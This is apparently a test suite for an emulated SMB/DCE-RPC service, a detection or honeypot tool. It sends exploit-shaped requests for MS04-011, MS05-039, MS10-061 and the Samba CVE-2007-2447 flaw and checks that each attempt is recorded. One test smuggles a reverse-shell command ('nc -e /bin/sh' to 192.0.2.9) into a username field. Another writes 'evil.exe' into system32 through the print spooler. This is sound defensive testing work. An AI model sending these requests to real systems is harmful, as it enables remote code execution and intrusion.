import assert from 'node:assert/strict';
import { randomBytes } from 'node:crypto';
import { describe, it } from 'node:test';
import { openDceRpcPipe } from '../../../../src/emulator/services/dcerpc/index.ts';
import { TestServiceHost } from '../../../helpers/service-host.ts';
import { bindPdu, bindResults, faultStatus, INTERFACES, parsePdus, requestPdu, responseStub, stub, type Abstract } from './rpc-client.ts';

const PEER = { address: '192.0.2.7', port: 40000 };

function bound(host: TestServiceHost, pipeName: string, abstract: Abstract) {
  const pipe = openDceRpcPipe(host, pipeName, PEER);
  assert.ok(pipe, `${pipeName} listens`);
  assert.deepEqual(bindResults(parsePdus(pipe.transact(bindPdu([abstract])))[0]!), [{ result: 0, reason: 0 }]);
  return pipe;
}

describe('interfaces behind the SMB pipes', () => {
  it('MS04-011: DsRolerUpgradeDownlevelServer with an overlong string on Windows 2000', () => {
    const host = new TestServiceHost('win-2000-sp4');
    const pipe = bound(host, 'lsarpc', INTERFACES.dssetup);
    const request = stub((writer) => writer.referent().wideString('D'.repeat(3000)).referent().wideString('site').u32(0));
    assert.equal(pipe.transact(requestPdu(4, request)).length, 0);
    assert.deepEqual(host.exploits.map((report) => [report.vulnerability, report.vulnerable]), [['MS04-011', true]]);
    assert.equal(host.codeRuns.length, 1);
  });

  it('MS05-039: PNP_QueryResConfList with an overlong device instance over \\PIPE\\browser', () => {
    const host = new TestServiceHost('win-2000-sp4');
    const pipe = bound(host, 'browser', INTERFACES.pnp);
    const request = stub((writer) => writer.wideString('ROOT\\' + 'X'.repeat(1000)).u32(0).u32(0).u32(0).u32(0));
    assert.equal(pipe.transact(requestPdu(54, request)).length, 0);
    assert.deepEqual(host.exploits.map((report) => report.vulnerability), ['MS05-039']);
  });

  it('MS05-039 needs a logon on XP SP1: an anonymous caller is refused before the overflow', () => {
    const host = new TestServiceHost('win-xp-sp1');
    const pipe = bound(host, 'browser', INTERFACES.pnp);
    const request = stub((writer) => writer.wideString('X'.repeat(1000)).u32(0).u32(0).u32(0).u32(0));
    assert.equal(parsePdus(pipe.transact(requestPdu(54, request)))[0]!.type, 2);
    assert.deepEqual(host.exploits, []);
  });

  it('MS10-061: StartDocPrinter to a file in system32 on a shared printer writes that file', () => {
    const host = new TestServiceHost('win-xp-sp3-printshare');
    const pipe = bound(host, 'spoolss', INTERFACES.spoolss);
    const open = stub((writer) => writer.uniqueWideString('\\\\HOST\\Printer').u32(0).u32(0).u32(0).u32(0x8).u32(1).u32(1).u32(0));
    const handle = responseStub(parsePdus(pipe.transact(requestPdu(69, open)))).subarray(0, 20);
    const start = stub((writer) =>
      writer.bytes(handle).u32(1).u32(1).referent().referent().referent().referent().wideString('doc').wideString('C:\\WINDOWS\\system32\\evil.exe').wideString('RAW'),
    );
    assert.equal(responseStub(parsePdus(pipe.transact(requestPdu(17, start, { callId: 3 })))).readUInt32LE(4), 0);
    const body = Buffer.from('MZ payload');
    pipe.transact(requestPdu(19, stub((writer) => writer.bytes(handle).u32(body.length).bytes(body).align(4).u32(body.length)), { callId: 4 }));
    pipe.transact(requestPdu(23, stub((writer) => writer.bytes(handle)), { callId: 5 }));
    assert.deepEqual(host.exploits.map((report) => [report.vulnerability, report.vulnerable]), [['MS10-061', true]]);
    assert.deepEqual(Buffer.from(host.state.files.get('C:\\WINDOWS\\system32\\evil.exe')!), body);
    assert.ok(host.observations.some((observation) => observation.kind === 'file'));
  });

  it('svcctl: OpenSCManagerW and CreateServiceW are access denied', () => {
    const host = new TestServiceHost('win-2008r2-sp1');
    const pipe = bound(host, 'svcctl', INTERFACES.svcctl);
    const open = responseStub(parsePdus(pipe.transact(requestPdu(15, stub((writer) => writer.uniqueWideString('X').uniqueWideString('ServicesActive').u32(0xf003f))))));
    assert.equal(open.readUInt32LE(20), 5);
    const create = parsePdus(pipe.transact(requestPdu(12, new Uint8Array(64), { callId: 3 })));
    assert.equal(create[0]!.type, 3);
    assert.equal(faultStatus(create[0]!), 5);
  });

  it('netlogon: NetrServerReqChallenge and an authenticate with random credentials report nothing', () => {
    const host = new TestServiceHost('win-2008r2-sp1-dc');
    const pipe = bound(host, 'netlogon', INTERFACES.netlogon);
    const challenge = stub((writer) => writer.uniqueWideString('\\\\DC').wideString('CLIENT').bytes(randomBytes(8)));
    const answer = responseStub(parsePdus(pipe.transact(requestPdu(4, challenge))));
    assert.equal(answer.length, 12);
    assert.equal(answer.readUInt32LE(8), 0);
    const authenticate = stub((writer) =>
      writer.uniqueWideString('\\\\DC').wideString('CLIENT$').u16(2).wideString('CLIENT').bytes(randomBytes(8)).u32(0x212fffff),
    );
    const denied = responseStub(parsePdus(pipe.transact(requestPdu(26, authenticate, { callId: 3 }))));
    assert.equal(denied.readUInt32LE(denied.length - 4), 0xc0000022);
    assert.deepEqual(host.exploits, []);
  });

  it('CVE-2007-2447: Samba username map script runs shell syntax from SamrUnicodeChangePasswordUser2', () => {
    const host = new TestServiceHost('linux-samba-3.x');
    const pipe = bound(host, 'samr', INTERFACES.samr);
    const name = '/=`nohup nc -e /bin/sh 192.0.2.9 4444`';
    const request = stub((writer) => writer.u32(0).unicodeStringHeader(name).unicodeStringBuffer(name).align(4).bytes(new Uint8Array(16)));
    pipe.transact(requestPdu(55, request));
    assert.deepEqual(host.exploits.map((report) => [report.vulnerability, report.vulnerable]), [['CVE-2007-2447', true]]);
    assert.equal(host.commands.length, 1);
    assert.ok(host.commands[0]!.commandLine.includes('nohup nc'));
  });
});
